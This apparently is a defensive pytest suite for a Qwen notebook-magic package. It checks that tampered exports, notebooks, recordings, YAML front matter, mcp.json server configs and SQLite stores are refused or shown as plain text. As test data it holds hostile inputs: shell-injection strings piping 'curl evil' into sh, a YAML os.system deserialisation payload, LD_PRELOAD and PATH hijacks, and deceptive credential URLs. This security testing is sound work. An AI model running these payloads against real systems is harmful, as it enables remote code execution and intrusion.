"""Files that somebody made to do harm, of every kind that is read: each is refused with its place,
or told as nothing but words. Nothing is run, nothing waits for ever, the file stays as it is."""

import json
import os
import shlex
import sqlite3
from contextlib import closing
from itertools import count
from pathlib import Path

import pytest

from qwen_magic.answer import Answer
from qwen_magic.batch.result_cache import ResultCache, answer_json
from qwen_magic.context.files import read_file
from qwen_magic.context.images import image_part
from qwen_magic.context.notebook import cells_of_file
from qwen_magic.context.prompt_files import find_prompt, list_prompts, read_instructions
from qwen_magic.conversation.archive.json_form import export_json, import_json
from qwen_magic.conversation.archive.notebook import MOST_SHARED, read_notebook
from qwen_magic.conversation.chain import Turn
from qwen_magic.conversation.conversations import Conversations
from qwen_magic.conversation.fallback_store import open_store
from qwen_magic.conversation.scope import append_text, read_text, write_text
from qwen_magic.demo.lesson import LessonError, MissingValueError, fill, parse_lesson, read_lessons
from qwen_magic.endpoints import DASHSCOPE, Endpoint
from qwen_magic.errors import QwenError, UsageError
from qwen_magic.magics.files import _file
from qwen_magic.notebook_files import hand_out
from qwen_magic.recording.file import read_recording
from qwen_magic.session.plan import Ask, plan
from qwen_magic.session.tape import check_recordable, is_recording
from qwen_magic.tools.mcp import _question
from qwen_magic.tools.mcp_format import read_servers

CONTROLS = "\x1b[2J\x1b]52;c;aGk=\x07\u202e\n\nERROR"
DEEP = '{"a":' * 5000 + "1" + "}" * 5000
TURN = {"record": "turn", "key": "k", "chat": "main", "status": "completed", "text": "t"}
SAVED = {"version": 1, **{name: TURN[name] for name in ("key", "chat", "status", "text")}}
SPOKEN = {"method": "POST", "path": "responses"}


def an_export(**changed):
    head = {"format": "qwen_magic conversation", "version": 1, "name": "main"}
    return json.dumps({**head, "records": [{**TURN, **changed}]})


def a_notebook(**changed):
    output = {"metadata": {"qwen_magic": {**SAVED, **changed}}, "data": {"text/markdown": "x"}}
    return json.dumps({"cells": [{"cell_type": "code", "outputs": [output]}]})


def a_recording(*lines):
    return "\n".join(
        ['{"recording": 1}', *(x if isinstance(x, str) else json.dumps(x) for x in lines)]
    )


REFUSED = {
    "export": (
        import_json,
        [
            "",
            "[]",
            DEEP,
            '{"format":NaN}',
            '{"a":1e999}',
            '{"a":' + "9" * 5000 + "}",
            an_export(usage={"tools": {CONTROLS: -1}}),
            an_export(usage={"total_tokens": 2**63}),
            an_export(created_at=1e300),
            an_export(cell={"cell_id": "c", "call": 2**64}),
            an_export(parent="k"),
            an_export(key="k" * 600),
            an_export(input=[5]),
            an_export(status=CONTROLS),
            an_export(chat="other"),
        ],
    ),
    "notebook": (
        read_notebook,
        [
            "{}",
            DEEP,
            '{"cells":[5]}',
            a_notebook(chat=CONTROLS),
            a_notebook(usage={"total_tokens": -1}),
            a_notebook(items=[5]),
            a_notebook(text={"in_markdown": {f"/{CONTROLS}": [0, 1]}, "crc32": 2363233923}),
        ],
    ),
    "recording": (
        lambda text: read_recording(text, "r.jsonl"),
        [
            "",
            CONTROLS,
            '{"recording": true}',
            f'{{"recording": 2, "maker": {json.dumps(CONTROLS)}}}',
            a_recording(CONTROLS),
            a_recording(DEEP),
            a_recording({"request": SPOKEN, "status": 10**30}),
            a_recording('{"request":{"method":"P","path":"r"},"stream":[[1e999,"x"]]}'),
            a_recording({"request": SPOKEN, "stream": [[86_400_001, "x"]]}),
            a_recording({"request": SPOKEN, "end": CONTROLS}),
            a_recording({"request": SPOKEN, "encoding": "gzip"}),
            a_recording({"request": SPOKEN, "headers": {CONTROLS: 5}}),
        ],
    ),
}


@pytest.mark.parametrize(
    ("read", "text"),
    [(read, text) for read, texts in REFUSED.values() for text in texts],
    ids=[f"{kind} {n}" for kind, (_, texts) in REFUSED.items() for n in range(len(texts))],
)
def test_it_is_refused_with_its_place(read, text):
    with pytest.raises(QwenError) as caught:
        read(text)
    lines = str(caught.value).split("\n")
    assert all(line.isprintable() for line in lines)
    assert len(lines) <= 3


HOME = Endpoint("home", "https://home.example/v1", DASHSCOPE, "DASHSCOPE_API_KEY", "k")
ODD = [
    {"usage": {"total_tokens": 2**63 - 1, "tools": {"t": 2**63 - 1}}},
    {"created_at": 9e18, "seconds": -9e18},
    {"text": "\0", "prompt": "\0", "key": "\0", "response_id": "\0"},
    {"text": "\ud800", "model": CONTROLS, "host": CONTROLS},
    {"items": [{"type": 5}, {"type": ["x"]}, {"type": {"a": 1}}, {}]},
    {"items": [{"type": "function_call", "call_id": ["x"], "name": {"a": 1}, "arguments": [1]}]},
    {"items": [{"type": "function_call_output", "call_id": {"x": 1}, "output": [1]}], "text": ""},
    {"items": [{"type": "reasoning", "summary": 5}, {"type": "message", "content": 5}]},
    {"items": [{"type": "code_interpreter_call", "outputs": [{"url": "file:///etc/passwd"}]}]},
    {"input": [{"role": ["user"], "content": 5}, {"type": ["message"], "role": {"a": 1}}]},
    {"input": [{"role": "user", "content": [5, None, {"type": "input_text", "text": 5}]}]},
]


@pytest.mark.parametrize("changed", ODD, ids=lambda changed: " ".join(changed))
def test_odd_values_are_kept_and_told(tmp_path, changed):
    store, trouble = open_store(tmp_path / "s.sqlite3", "here")
    with closing(store):
        conversations, keys = Conversations(store), count()
        records = import_json(an_export(**changed)).adopted("x", lambda: str(next(keys)))
        conversations.adopt("x", records)
        again = import_json(export_json(conversations.conversation("x")))
        assert [turn.imported for turn in again.turns] == [True]
        assert not conversations.outline("x").tokens + conversations.chain("x").tokens
        asked = Ask(prompt="y", input="y", model="m", endpoint=HOME, chat="x", carry=True)
        assert plan(asked, conversations).request.body()["input"]
        assert not trouble + store.failure


def test_forks_of_forks_do_not_multiply():
    """Each of 2,000 turns is another conversation's, and would share all before it."""
    cells = [
        {"metadata": {"qwen_magic": {**SAVED, "key": f"{n}", "chat": f"{n}", "parent": f"{n - 1}"}}}
        for n in range(2000)
    ]
    text = json.dumps({"cells": [{"cell_type": "code", "outputs": [cell]} for cell in cells]})
    restored = read_notebook(text)
    assert len(restored.conversations) == 2000
    assert sum(len(each.base) for each in restored.conversations) < MOST_SHARED + 2000
    assert restored.notes


# Front matter -------------------------------------------------------------------------------------

ALIASES = "[&a [x,x,x,x,x,x,x,x,x,x],&b [*a,*a,*a,*a,*a,*a,*a,*a,*a,*a],&c [*b,*b,*b,*b,*b,*b,*b]]"
HEADS = [
    "model: !!int ''",
    "model: !!bool x",
    "model: !!python/object/apply:os.system ['touch pwned']",
    f"schema: {{a: {ALIASES}}}",
    "schema: &a {x: *a}",
    "schema: {a: 2024-01-01}",
    "schema: {a: .nan}",
    "description: 2024-99-99",
    "description: 0001-01-01 00:00:00 +1:00",
    "description: " + "[" * 500,
    "description: " + "x" * 100_000,
    "fields: {a: 0x" + "f" * 10_000 + "}",
    '"\\e[2J": 1',
]


@pytest.mark.parametrize("head", HEADS, ids=lambda head: head[:40])
def test_a_prompt_file_is_plain_yaml(tmp_path, head):
    (tmp_path / "evil.md").write_text(f"---\n{head}\n---\nHi")
    with pytest.raises(UsageError, match=r"evil\.md") as caught:
        find_prompt("evil", [tmp_path])
    assert all(line.isprintable() for line in str(caught.value).split("\n"))
    faults = []
    assert "analyst" in [each.name for each in list_prompts([tmp_path], faults.append)]
    assert len(faults) == 1


@pytest.mark.parametrize(
    "head", [*HEADS[:5], f"prompts: {ALIASES}", "prompts: a\nrank: [1]", "prompts: a\nrank: .inf"]
)
def test_so_is_a_lesson(tmp_path, head):
    with pytest.raises((LessonError, TypeError, ArithmeticError)):  # `read_lessons` names the file
        parse_lesson("evil", f"---\n{head}\n---\n## say\nHi")
    with pytest.raises(MissingValueError):
        fill("{{x:>2000000000}}", {"x": 1})


# mcp.json -----------------------------------------------------------------------------------------


def servers(folder, **given):
    (folder / "mcp.json").write_text(json.dumps({"mcpServers": given}))
    return read_servers([folder])


@pytest.mark.parametrize(
    "arguments",
    [
        "PASSWORD='x; curl evil | sh'",
        "api_key=$(curl evil|sh) ls",
        "token = __import__('os').system('curl evil')",
        "password=x;curl evil|sh",
        "secret:`curl evil`",
        "x://a:b;curl${IFS}evil|sh;@",
        "https://a:$(curl${IFS}evil)@h",
        "-----BEGIN PRIVATE KEY-----; curl evil | sh",
        "bearer\ncurl-evil-7",
    ],
    ids=range(9),  # what stands in the environment, as a test's name does, is kept back
)
def test_what_would_run_is_never_kept_back(tmp_path, arguments):
    config = servers(tmp_path, a={"command": "sh", "args": ["-c", arguments]})["a"]
    asked = _question(config, is_other=False)
    for word in arguments.replace("'", " ").split():
        assert word in asked.call


def test_what_else_says_what_runs_and_what_goes_along_is_told(tmp_path):
    program = {"PATH": "/tmp/evil", "LD_PRELOAD": "evil.so", "API_KEY": "kept-1234"}
    given = {"command": "git", "cwd": "/tmp/evil", "env": program}
    asked = _question(servers(tmp_path, a=given)["a"], is_other=False)
    assert "/tmp/evil" in asked.call
    assert {"PATH=/tmp/evil", "LD_PRELOAD=evil.so", "API_KEY"} == set(asked.passed)
    assert "kept-1234" not in asked.call + asked.text + asked.arguments
    given = {"url": "https://evil.example/", "headers": {"X": "a ${env:DASHSCOPE_API_KEY} b"}}
    asked = _question(servers(tmp_path, a=given)["a"], is_other=False)
    assert "DASHSCOPE_API_KEY" in asked.text


@pytest.mark.parametrize("sign", ["#", "?", "\\"])
def test_the_host_that_is_asked_is_told(tmp_path, sign):
    given = {"url": f"https://evil.example:443{sign}x@bank.example/mcp"}
    assert "evil.example" in _question(servers(tmp_path, a=given)["a"], is_other=False).call
    given = {"url": "https://ann:hunter2x@good.example/mcp"}
    asked = _question(servers(tmp_path, a=given)["a"], is_other=False)
    assert "good.example" in asked.call
    assert "hunter2x" not in asked.call + asked.target


@pytest.mark.parametrize("text", ['"' + '\\"' * 200_000, "/* " * 200_000, '"' * 99_999 + "\\"])
def test_a_long_mcp_json_takes_no_longer_than_it_is(tmp_path, text):
    (tmp_path / "mcp.json").write_text(text)
    with pytest.raises(UsageError, match=r"mcp\.json"):
        read_servers([tmp_path])


# What is no file ----------------------------------------------------------------------------------

LINKED = ("/dev/zero", "/dev/tty", "nowhere")
READERS = {
    "text": read_text,
    "prompt": lambda path: read_instructions(f"@{path.name}", {}, folders=[path.parent]),
    "mcp": lambda path: read_servers([path.parent]),
    "image": lambda path: image_part("x", path),
    "a file that is sent": lambda path: read_file(str(path)),
    "what is recorded": lambda path: append_text(path, "x"),
    "lessons": lambda path: read_lessons([path.rename(path.with_suffix(".md")).parent]),
}


@pytest.mark.parametrize(
    "make", [os.mkfifo, Path.mkdir, *(lambda path, to=to: path.symlink_to(to) for to in LINKED)]
)
@pytest.mark.parametrize("read", READERS.values(), ids=READERS)
def test_nobody_waits_for_a_pipe(tmp_path, make, read):
    path = tmp_path / "mcp.json"
    make(path)
    with pytest.raises((UsageError, LessonError)):
        read(path)


NAMED = {
    "text": lambda name: read_text(Path(name)),
    "export": lambda name: write_text(_file("qwen_export", shlex.quote(name))[0], "x"),
    "recording": lambda name: check_recordable(Path(name, "x")),
    "what is recorded": lambda name: append_text(Path(name), "x"),
    "prompt": lambda name: find_prompt(name, [Path()]),
    "instructions": lambda name: read_instructions(f"@{name}", {}),
    "image": lambda name: image_part(name, None),
    "a file that is sent": read_file,
    "handout": lambda name: hand_out(Path(f"{name}.ipynb")),
}


@pytest.mark.parametrize("name", ["x" * 300, "~nobody-of-that-name/x", "a\0b", "\ud800"], ids=ascii)
@pytest.mark.parametrize("use", NAMED.values(), ids=NAMED)
def test_a_name_that_no_file_has_is_said(use, name):
    with pytest.raises(UsageError):
        use(name)


@pytest.mark.parametrize("make", [os.link, lambda victim, path: path.symlink_to(victim)])
def test_nothing_is_recorded_into_another_file(tmp_path, make):
    victim, path = tmp_path / "victim", tmp_path / "lesson.jsonl"
    victim.write_text('{"recording": 1}\n')
    make(victim, path)
    with pytest.raises(UsageError, match=r"lesson\.jsonl"):
        append_text(path, "what was said\n")
    assert victim.read_text() == '{"recording": 1}\n'


def test_a_recording_that_became_open_to_others_is_closed_again(tmp_path):
    path = tmp_path / "lesson.jsonl"
    path.touch(0o644)
    append_text(path, "what was said\n")
    assert path.stat().st_mode & 0o777 == 0o600


def test_a_deep_file_beside_a_notebook_is_none_of_ours(tmp_path):
    path = tmp_path / "lesson.jsonl"
    path.write_text("[" * 5000)
    assert not is_recording(path)
    with pytest.raises(UsageError):
        cells_of_file("[" * 100_000)
    cells = [{"id": {"a": 1}}, {"id": ["x"]}, {}, {"id": "c"}]
    assert [cell["id"] for cell in cells_of_file(json.dumps({"cells": cells}))][-1] == "c"
    assert not is_recording(path)


# Databases ----------------------------------------------------------------------------------------

ENDLESS = "WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c)"
PROGRAMS = {
    "view": f"CREATE VIEW facts AS {ENDLESS} SELECT x AS namespace, x AS key, x AS value FROM c",
    "trigger": f"CREATE TRIGGER t AFTER INSERT ON records BEGIN "
    f"INSERT INTO growth (turn) {ENDLESS} SELECT x FROM c; END",
    "virtual": "CREATE VIRTUAL TABLE facts USING fts5(namespace, key, value)",
}
CHANGES = [
    *(
        f"UPDATE turns SET {changed}"
        for changed in (
            "status = 'x'",
            "items = '['",
            f"items = '{'[' * 5000}'",
            "items = '[5]'",
            "input = '[5]'",
            "parent = 'k2'",
            "tools = '5'",
            "tools = '{}', total_tokens = 'x'",
            "seconds = 'x'",
            "cell_id = 'x', cell_call = 'y'",
            "model = x'ff'",
        )
    ),
    "UPDATE records SET key = 5 + seq",
    "UPDATE records SET at = 'x'",
    "UPDATE chats SET turns = 'x'",
]


def a_store(path, *changes):
    store, _ = open_store(path, "here")
    with closing(store):
        store.append(Turn("k", "main", "completed", prompt="p", text="t"))
        store.append(Turn("k2", "main", "completed", parent="k", prompt="p", text="t"))
    with closing(sqlite3.connect(path, isolation_level=None)) as connection:
        for change in changes:
            connection.execute(change)
        connection.execute("PRAGMA wal_checkpoint(TRUNCATE)")


@pytest.mark.parametrize("change", [*CHANGES, *PROGRAMS.values()], ids=lambda change: change[:50])
def test_a_store_that_somebody_changed_is_left_as_it_is(tmp_path, change):
    path, told = tmp_path / "s.sqlite3", []
    a_store(path, *["DROP TABLE facts"] * (" facts" in change), change)
    before = path.read_bytes()
    store, trouble = open_store(path, "here", told.append)
    with closing(store):
        conversations = Conversations(store)
        conversations.summaries()
        conversations.chain("main")
        store.append(Turn("n", "main", "completed", prompt="p", text="t"))
        assert "n" in [turn.key for turn in conversations.turns()]
    assert trouble or told
    assert path.read_bytes() == before


def test_numbers_of_a_store_take_nothing_back(tmp_path):
    a_store(tmp_path / "s", "UPDATE turns SET tools = '{}', total_tokens = -1000000")
    store, _ = open_store(tmp_path / "s", "here")
    with closing(store):
        conversations = Conversations(store)
        assert [summary.tokens for summary in conversations.summaries()] == [0]
        assert sum(turn.tokens for turn in conversations.turns()) == 0


WHOLE = json.loads(answer_json(Answer("hi", id="r")))
ANSWERS = [
    b"\xff",
    "[]",
    DEEP,
    json.dumps({**WHOLE, "usage": {"total_tokens": "a"}}),
    json.dumps({**WHOLE, "usage": {"total_tokens": -1}}),
    json.dumps({**WHOLE, "seconds": float("nan")}),
    json.dumps({**WHOLE, "items": [5]}),
    json.dumps({**WHOLE, "figures": [""] * 41}),
    json.dumps({**WHOLE, "status": CONTROLS}),
]


@pytest.mark.parametrize("answer", ANSWERS, ids=range(len(ANSWERS)))
def test_answers_to_resume_with_are_read_strictly(tmp_path, answer):
    with closing(ResultCache(tmp_path / "c.db")) as cache:
        cache.keep("k", Answer("hi"))
    with closing(sqlite3.connect(tmp_path / "c.db", isolation_level=None)) as connection:
        connection.execute("UPDATE answers SET answer = ?", (answer,))
    with (
        closing(ResultCache(tmp_path / "c.db")) as cache,
        pytest.raises(UsageError, match=r"c\.db"),
    ):
        cache.find(["k"])


@pytest.mark.parametrize(
    "program",
    [
        f"CREATE VIEW answers AS {ENDLESS} SELECT x AS key, x AS answer FROM c",
        "CREATE VIRTUAL TABLE answers USING fts5(key, answer)",
    ],
)
def test_a_file_to_resume_with_runs_nothing(tmp_path, program):
    with closing(ResultCache(tmp_path / "c.db")):
        pass
    with closing(sqlite3.connect(tmp_path / "c.db", isolation_level=None)) as connection:
        connection.execute("DROP TABLE answers")
        connection.execute(program)
    with pytest.raises(UsageError, match=r"c\.db"):
        ResultCache(tmp_path / "c.db")
